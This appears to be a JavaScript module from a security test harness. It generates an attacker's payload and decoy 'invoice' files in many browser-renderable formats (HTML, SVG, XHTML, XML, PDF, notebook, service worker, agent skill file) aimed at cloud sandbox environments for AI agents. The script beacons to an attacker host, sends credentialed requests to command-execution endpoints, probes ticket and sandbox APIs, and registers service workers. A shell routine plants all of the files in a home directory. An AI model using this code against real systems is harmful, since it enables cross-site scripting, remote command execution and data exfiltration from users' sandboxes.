// Content of the attacker: a script, files with it in every type that a browser can show, and their paths.

// payload is a script that reports where it runs, and then uses every API that it can reach. aims are the URLs of our servers.
export const payload = (evil, aims) => `globalThis.sweep = (way) => {
  const say = (word, more) => {
    const line = ["SWEEP", word, self.origin, location.href, more ?? ""].join(" | ");
    console.log(line);
    fetch("${evil}/beacon", { method: "POST", mode: "no-cors", body: line, keepalive: true }).then((r) => r.text()).catch(() => {});
  };
  say("ran", way);
  if (globalThis.swept) return;
  globalThis.swept = true;
  const here = new URL(location.href);
  const below = (here.pathname.match(/^\\/sandbox\\/[^/]+(\\/~[^/]+)?/) ?? [""])[0];
  const mark = encodeURIComponent(self.origin + " " + here.href).replace(/[^A-Za-z0-9%.]/g, "_");
  const post = (at, path, type, body) => fetch(at + path, { method: "POST", credentials: "include", headers: { "Content-Type": type }, body: JSON.stringify(body) }).then((r) => r.text());
  const exec = (at, type) => post(at, "/v1/bash/exec", type, { command: "echo " + mark + " >> ~/owned" }).catch(() => {});
  exec(here.origin + below, "application/json");
  // Where it may run, it tries all other targets. Where it must not run, the report is sufficient.
  if (self.origin !== "null" && !/:\\/\\/\\d+-/.test(self.origin)) return;
  for (const at of new Set([here.origin, here.origin + below, ...${JSON.stringify(aims)}])) {
    exec(at, "text/plain");
    post(at, "/tickets", "text/plain", {}).then((text) => JSON.parse(text).ticket && say("read", at + "/tickets")).catch(() => {});
    for (const path of ["/api/v1/sandbox", "/v2/sandboxes", "/v1/sandbox", "/envs"]) {
      fetch(at + path, { credentials: "include" }).then((r) => r.text().then((text) => {
        if (r.ok && text && /json/.test(r.headers.get("content-type"))) say("read", at + path);
      })).catch(() => {});
    }
  }
  for (const path of ["sw.js", "/e2b/envd/files?path=Downloads/sw.js", "/v1/file/download?path=Downloads/sw.js"]) {
    try { navigator.serviceWorker?.register(path, { scope: "/" }).then((r) => say("worker", r.scope), () => {}); } catch { /* opaque pages have none */ }
  }
  try { opener?.postMessage(["SWEEP", self.origin], "*"); parent.postMessage(["SWEEP", self.origin], "*"); } catch { /* closed */ }
  try { localStorage.setItem("sweep", mark); } catch { /* opaque pages have none */ }
};
globalThis.sweep("script");`;

// files are the attacker's files, by name. Pages that may load only scripts of their own origin find scripts there.
export function files(evil, aims) {
  const script = payload(evil, aims);
  const from = ["/e2b/envd/files?path=Downloads/invoice.js", "/v1/file/download?path=Downloads/invoice.js", "/files?path=Downloads/invoice.js", "invoice.js", `${evil}/p.js`];
  const tags = from.map((src) => `<script src="${src}"></script>`).join("");
  const body = `<script>${script}</script>${tags}<img src="x:" onerror="sweep('onerror')"><svg onload="globalThis.sweep&&sweep('svg')"></svg>` +
    `<iframe srcdoc="&lt;script src='${evil}/p.js'&gt;&lt;/script&gt;"></iframe><base href="${evil}/">`;
  const html = `<!doctype html><title>attacker</title><body onload="globalThis.sweep&&sweep('onload')">${body}</body>`;
  const xhtml = `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>attacker</title></head><body><script>//<![CDATA[\n${script}\n//]]></script></body></html>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="globalThis.sweep&amp;&amp;sweep('svg')"><script>//<![CDATA[\n${script}\n//]]></script></svg>`;
  const xsl = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body><script src="${evil}/p.js"></script></body></html></xsl:template></xsl:stylesheet>`;
  const xml = `<?xml version="1.0"?><x><script xmlns="http://www.w3.org/1999/xhtml">//<![CDATA[\n${script}\n//]]></script></x>`;
  const mhtml = `MIME-Version: 1.0\nContent-Type: multipart/related; type="text/html"; boundary="b"\n\n--b\nContent-Type: text/html\n\n${html}\n--b--\n`;
  const pdf = "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n";
  const notebook = JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells: [
    { cell_type: "markdown", metadata: {}, source: html }, { cell_type: "code", metadata: {}, source: "1", outputs: [{ output_type: "display_data", metadata: {}, data: { "text/html": html } }] }] });
  return {
    "Downloads/invoice.html": html, "Downloads/invoice.htm": html, "Downloads/invoice.svg": svg, "Downloads/invoice.xhtml": xhtml, "Downloads/invoice.xml": xml,
    "Downloads/invoice.xsl": xsl, "Downloads/invoice.txt": html, "Downloads/invoice": html, "Downloads/invoice.js": script, "Downloads/invoice.mhtml": mhtml,
    "Downloads/invoice.pdf": pdf, "Downloads/invoice.md": html, "Downloads/invoice.css": html, "Downloads/invoice.json": html, "Downloads/invoice.ipynb": notebook,
    "Downloads/sw.js": `self.location && console.log("SWEEP | worker ran | " + self.origin + " | " + self.location.href + " | "); onfetch = (e) => e.respondWith(new Response(${JSON.stringify(html)}, { headers: { "Content-Type": "text/html" } }));`,
    "home.html": html, "home.svg": svg, "work/page.html": html, ".local/state/aio/evil.html": html, ".vscode/evil.html": html,
    "skill/SKILL.md": `---\nname: evil\ndescription: "${"<script>sweep()</script>"}"\n---\n${html}`, "skill/page.html": html, "site/index.html": html, "site/sw.js": "onfetch = () => {};", "site/invoice.js": script,
  };
}

// script writes all files below the home directory of a shell, and archives of them.
export const plantScript = (all) => ["cd", ...Object.entries(all).map(([name, text]) =>
  `mkdir -p "$(dirname ${name})"; base64 -d > ${name} <<'END'\n${Buffer.from(text).toString("base64")}\nEND`),
"if [ -d Downloads ]; then tar cf Downloads/evil.tar -C Downloads invoice.html; gzip -c Downloads/invoice.html > Downloads/invoice.html.gz; fi"].join("\n");
